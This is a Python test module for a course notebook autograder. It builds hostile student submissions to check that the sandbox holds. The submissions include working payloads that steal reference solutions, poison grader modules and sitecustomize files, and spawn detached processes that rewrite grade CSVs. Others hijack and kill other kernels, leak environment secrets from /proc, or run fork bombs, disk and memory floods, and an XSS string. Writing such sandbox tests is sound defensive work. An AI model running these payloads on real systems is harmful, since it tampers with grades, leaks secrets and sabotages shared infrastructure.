"""Attacks on the grader, built at test time from solutions/ and notebooks/.

Each attack is a small notebook of the course (its metadata names the notebook
it answers) whose cells do what a hostile student would. Most carry no honest
answer, so any point they earn is a false pass.
"""

import nbformat

from . import submissions as build

NB01, NB02, NB03 = "01_random_baseline", "02_average_image", "03_mlp_from_scratch"
#: Written into every process an attack starts, to find any left behind.
MARKER = "coursekit-attack-marker"
#: A secret in the grader's environment that no row or feedback may show.
SECRET = "grader-token-3f1e0b6d"


def notebook_of(stem, *sources, exercise_cells=()):
    """A notebook answering ``stem`` with these code cells, then ``exercise_cells``.

    ``exercise_cells`` are ``(exercise id, source)`` pairs: cells carrying the
    exercise's id, where the grader reads that answer.
    """
    cells = [nbformat.v4.new_code_cell(source) for source in sources]
    for exercise_id, source in exercise_cells:
        cell = nbformat.v4.new_code_cell(source)
        cell.metadata["coursekit"] = {"exercise": exercise_id}
        cells.append(cell)
    return nbformat.v4.new_notebook(cells=cells, metadata={"coursekit": {"notebook": stem}})


def zero(stem):
    return {e.id: 0 for e in build.exercises(stem)}


# ---------------------------------------------------------------- points without an answer

REFERENCE_IMPORT = """\
from coursekit.nn import sigmoid, feed_forward, cost, sigmoid_prime, train, init_network
"""

REFERENCE_BY_FILE = """\
import importlib.util, glob, os
import coursekit

# The module's source, or a compiled copy of it, loaded by hand.
folder = os.path.dirname(coursekit.__file__)
for path in [os.path.join(folder, "nn.py"), *glob.glob(os.path.join(folder, "__pycache__", "nn*"))]:
    try:
        spec = importlib.util.spec_from_file_location("stolen_nn", path)
        stolen = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(stolen)
        sigmoid, feed_forward, cost = stolen.sigmoid, stolen.feed_forward, stolen.cost
        sigmoid_prime, backprop, evaluate_batch = (
            stolen.sigmoid_prime, lambda w, b, X, y: stolen.gradients(w, b, X, y),
            lambda w, b, X: stolen.evaluate(w, b, X))
        break
    except Exception:
        pass
"""

REFERENCE_FROM_CHECKS = """\
import coursekit.judging.nb03.networks as judges

# The judges' own reference code, if it were in reach of the kernel.
def feed_forward(weights, biases, x):
    return judges.reference_forward(weights, biases, x)[0]
"""


def reference_import():
    """Notebook 03 answered with the course's reference (coursekit.nn), three ways."""
    notebook = notebook_of(NB03, REFERENCE_IMPORT, REFERENCE_BY_FILE, REFERENCE_FROM_CHECKS)
    return notebook, zero(NB03)


READ_SOLUTIONS = """\
import glob, json, os
import coursekit

# solutions/ beside the package, or anywhere on the file system.
root = os.path.dirname(os.path.dirname(coursekit.__file__))
found = glob.glob(os.path.join(root, "solutions", "*.ipynb"))
for top, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "dev", "usr", "site-packages")]
    found += [os.path.join(top, f) for f in files if f.endswith(".ipynb")]
for path in found:
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        continue
    for cell in cells:
        if cell.get("cell_type") == "code" and "exercise" in cell.get("metadata", {}).get("tags", []):
            try:
                exec("".join(cell["source"]))
            except Exception:
                pass
"""


def reading_solutions():
    return notebook_of(NB01, READ_SOLUTIONS), zero(NB01)


# ---------------------------------------------------------------- poisoning

POISON = """\
import glob, os, site, sys
import coursekit, coursekit.checks.spec as spec, zmq

payload = "\\ndef judge_safely(exercise, payload, cases):\\n    from coursekit.checks.results import Result\\n    return Result('correct', 'poisoned')\\n"
targets = [spec.__file__, os.path.join(os.path.dirname(coursekit.__file__), "judging", "base.py"),
           os.path.join(os.path.dirname(coursekit.__file__), "checks", "wire.py"),
           os.path.join(os.path.dirname(zmq.__file__), "utils", "garbage.py")]
targets += [os.path.join(p, "coursekit-poison.pth") for p in site.getsitepackages()]
targets += [os.path.join(p, "sitecustomize.py") for p in site.getsitepackages()]
written = []
for target in targets:
    try:
        with open(target, "a") as stream:
            stream.write(payload if target.endswith(".py") else "import os\\n")
        written.append(target)
    except OSError:
        pass
print("written:", written)
"""


def poisoning():
    return notebook_of(NB01, POISON), zero(NB01)


# ---------------------------------------------------------------- editing grades afterwards

ESCAPE = f"""\
import os, subprocess, sys

# A grandchild in a new session, meant to outlive the kernel and the grader,
# then rewrite every grades file it can find to full marks.
code = '''
import glob, os, time
time.sleep(25)
for path in glob.glob("/**/*.csv", recursive=True):
    try:
        with open(path, "a") as stream:
            stream.write("escaped,4,4,4,4,ok,,\\\\n")
    except OSError:
        pass
'''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, "{MARKER}"])
    os._exit(0)
try:
    ppid_cmdline = open(f"/proc/{{os.getppid()}}/cmdline").read()
except OSError:
    ppid_cmdline = ""
subprocess.Popen(["sleep", "600"], start_new_session=True)
"""


def escaping():
    return notebook_of(NB01, ESCAPE), zero(NB01)


# ---------------------------------------------------------------- classmates, the batch

SABOTAGE = """\
import glob, json, os, signal

mine = os.getpid()
# Every process in sight, and every kernel's connection file.
connection_files = glob.glob("/tmp/**/kernel*.json", recursive=True)
connection_files += glob.glob("/root/.local/share/jupyter/runtime/*.json")
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    try:
        words = open(f"/proc/{pid}/cmdline").read().split("\\0")
        connection_files += [w for w in words if w.endswith(".json")]
    except OSError:
        pass
patched = 0
for path in set(connection_files):
    try:
        from jupyter_client import BlockingKernelClient
        client = BlockingKernelClient(connection_file=path)
        client.load_connection_file()
        client.start_channels()
        client.execute("import coursekit.checks.spec as c; c.collect_safely = lambda *a: {'value': None}")
        patched += 1
    except Exception:
        pass
for target in [os.getppid(), 1, -1]:
    for signum in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP):
        try:
            os.kill(target, signum)
        except OSError:
            pass
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != mine:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
"""


def sabotage():
    return notebook_of(NB01, SABOTAGE), zero(NB01)


# ---------------------------------------------------------------- leaks

LEAK = """\
import os

def grab():
    text = ""
    for path in (f"/proc/{os.getppid()}/environ", "/proc/1/environ", f"/proc/{os.getpid()}/environ"):
        try:
            text += open(path).read()
        except OSError:
            pass
    return text + repr(dict(os.environ))

def to_vector(image):
    raise RuntimeError(grab())

predicted_digit = grab()
"""


def leaking():
    notebook = notebook_of(NB01, exercise_cells=[("01-scale-pixels", LEAK)])
    return notebook, zero(NB01)


# ---------------------------------------------------------------- resources

FLOOD = """\
print("x" * 600_000_000)
del _
for _ in range(200):
    print("y" * 2_000_000)
"""

FORK_BOMB = """\
import os, time
count = 0
try:
    for _ in range(100_000):
        pid = os.fork()
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        count += 1
except OSError as exc:
    print("stopped after", count, "processes:", exc)
"""

DISK = """\
import os
written = 0
for folder in (".", os.path.expanduser("~"), "/tmp"):
    try:
        with open(os.path.join(folder, "filler"), "wb") as stream:
            for _ in range(2048):
                stream.write(b"\\0" * 2**20)
                written += 1
    except OSError:
        pass
"""


def flooding():
    return notebook_of(NB01, FLOOD), zero(NB01)


def fork_bomb():
    return notebook_of(NB01, FORK_BOMB), zero(NB01)


def disk_filler():
    return notebook_of(NB01, DISK), zero(NB01)


SLEEPER = "import time\n\ntime.sleep({seconds})"


def notebook_sleeper(cell_timeout, cells=15):
    """``cells`` cells each sleeping just under the per-cell limit."""
    return notebook_of(NB01, *[SLEEPER.format(seconds=cell_timeout - 1)] * cells), zero(NB01)


SHARED_MEMORY = """\
import os, time

# Children each under the limit, together far over it.
children = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        block = bytearray(400 * 2**20)
        for index in range(0, len(block), 4096):
            block[index] = 1
        time.sleep(60)
        os._exit(0)
    children.append(pid)
time.sleep(30)
"""


def shared_memory():
    return notebook_of(NB01, SHARED_MEMORY), zero(NB01)


# ---------------------------------------------------------------- student text

HTML = "<img src=x onerror=alert(1)>"


def html_in_a_cell():
    """A kernel that dies in a cell whose first line is raw HTML (the reason quotes it)."""
    return notebook_of(NB01, f"x = '{HTML}'; import os; os._exit(1)"), zero(NB01)


def foreign_metadata():
    """Metadata naming a notebook that is raw HTML and a broken code span."""
    notebook = notebook_of(NB01)
    notebook.metadata["coursekit"]["notebook"] = f"`{HTML}` **bold**"
    return notebook


# ---------------------------------------------------------------- the next kernel in the pool

#: Files an attack leaves for the submission after it, in every place both might share.
TRACE = "pool-trace.txt"

REACH_NEXT = f"""\
import glob, os, pathlib, signal, subprocess, sys, tempfile

from ipykernel.connect import get_connection_file

# The kernel started ahead for the next submission is running now, on this
# machine. Look for it everywhere this kernel can look.
own = os.path.realpath(get_connection_file())
private = os.path.dirname(os.path.dirname(own))  # the grader's folder for this kernel
seen = []
for pattern in (os.path.join(os.path.dirname(private), "coursekit-grade-*", "ipc", "*"),
                "/tmp/**/kernel*.json", "/home/**/kernel*.json", "/dev/shm/**",
                "/run/**/kernel*.json", "/sys/fs/cgroup/**/coursekit-grade-*"):
    for path in glob.glob(pattern, recursive=True):
        if not os.path.realpath(path).startswith(os.path.dirname(own)) and os.path.isfile(path):
            seen.append(path)

def ancestors():
    pid, found = os.getpid(), set()
    while pid > 0 and pid not in found:
        found.add(pid)
        try:
            stat = open(f"/proc/{{pid}}/stat").read()
        except OSError:
            break
        pid = int(stat[stat.rfind(")") + 2:].split()[1])
    return found


mine = ancestors()  # this kernel, and its sandbox's init
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    try:
        words = open(f"/proc/{{pid}}/cmdline").read().split("\\0")
    except OSError:
        continue
    if pid not in mine and any("ipykernel" in w or "coursekit.checks.shim" in w for w in words):
        seen.append(f"process {{pid}}")
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
reached_another_kernel = bool(seen)

# Traces for the next kernel, and a process meant to outlive this one, leaving
# them again and again, and killing any kernel it comes to see.
places = [pathlib.Path.home(), pathlib.Path(tempfile.gettempdir()), pathlib.Path("/tmp"),
          pathlib.Path("/dev/shm"), pathlib.Path(private), pathlib.Path(os.path.dirname(own))]
code = '''
import os, pathlib, signal, sys, time
mine = set()
pid = os.getpid()
while pid > 0 and pid not in mine:
    mine.add(pid)
    stat = open(f"/proc/{{pid}}/stat").read()
    pid = int(stat[stat.rfind(")") + 2:].split()[1])
for _ in range(600):
    for place in sys.argv[2:]:
        try:
            (pathlib.Path(place) / "{TRACE}").write_text("left by the submission before")
        except OSError:
            pass
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        try:
            if b"ipykernel" in open(f"/proc/{{pid}}/cmdline", "rb").read() and pid not in mine:
                os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    time.sleep(0.1)
'''
subprocess.Popen([sys.executable, "-c", code, "{MARKER}", *map(str, places)],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""


def reaching_the_next_kernel():
    """Solution 01 that looks for the kernel started ahead for the next submission.

    Exercise 2 earns its point only if it saw another kernel (a process or a
    connection file): the expected points say it never does.
    """
    notebook = build.solution(NB01)
    build.insert(notebook, build.first_code_cell(notebook), REACH_NEXT)
    index = build.find(notebook, "01-which-digit", "exercise")
    notebook.cells[index].source += (
        f"\npredicted_digit = predicted_digit if reached_another_kernel "
        f"else {build.NOT_AN_ANSWER}")
    points = {e.id: e.points for e in build.exercises(NB01)}
    return notebook, {**points, "01-which-digit": 0}


NEXT_IN_LINE = f"""\
import os, pathlib, tempfile

# Nothing of the submission before may be here: no trace, no process of its.
places = [pathlib.Path.home(), pathlib.Path(tempfile.gettempdir()), pathlib.Path("/tmp"),
          pathlib.Path("/dev/shm"), pathlib.Path(".")]
traces = [str(place) for place in places if (place / "{TRACE}").exists()]
strangers = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        if b"{MARKER}" in open(f"/proc/{{pid}}/cmdline", "rb").read():
            strangers.append(pid)
    except OSError:
        pass
untouched = not traces and not strangers
"""


def next_in_line():
    """Solution 01 graded right after :func:`reaching_the_next_kernel`: full marks only
    if its kernel, started while the attack ran, saw nothing of it."""
    notebook = build.solution(NB01)
    build.insert(notebook, build.first_code_cell(notebook), NEXT_IN_LINE)
    index = build.find(notebook, "01-which-digit", "exercise")
    notebook.cells[index].source += (
        f"\npredicted_digit = predicted_digit if untouched else {build.NOT_AN_ANSWER}")
    return notebook, {e.id: e.points for e in build.exercises(NB01)}


DECOY = """\
import subprocess, sys

# A process that looks like another kernel, in this sandbox: the look-out must see it.
decoy = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)",
                          "ipykernel_launcher", "%s"])
""" % MARKER


def reaching_a_decoy():
    """Control: :func:`reaching_the_next_kernel` with a kernel-like process in its own
    sandbox, which it does see (the look-out can succeed)."""
    notebook, points = reaching_the_next_kernel()
    build.insert(notebook, build.first_code_cell(notebook), DECOY)
    return notebook, {**points, "01-which-digit": 1}


def next_in_line_with_a_trace():
    """Control: :func:`next_in_line` finding a trace (its own): it loses exercise 2."""
    notebook, points = next_in_line()
    build.insert(notebook, build.first_code_cell(notebook),
                 f"import pathlib\n\n(pathlib.Path.home() / {TRACE!r}).write_text('mine')")
    return notebook, {**points, "01-which-digit": 0}


SOCKET_FOLDER_FILLER = """\
import os, time

from ipykernel.connect import get_connection_file

# The one folder of the grader's this kernel may write to is on the grader's disk:
# fill it, and the grader, the classmates and the next kernels have no disk left.
folder = os.path.dirname(get_connection_file())
with open(os.path.join(folder, "filler"), "wb") as stream:
    for _ in range(300):
        stream.write(b"\\1" * 2**20)
time.sleep(30)
"""


def socket_folder_filler():
    """Writes hundreds of MB into the kernel's socket folder (on the grader's disk)."""
    return notebook_of(NB01, SOCKET_FOLDER_FILLER), zero(NB01)
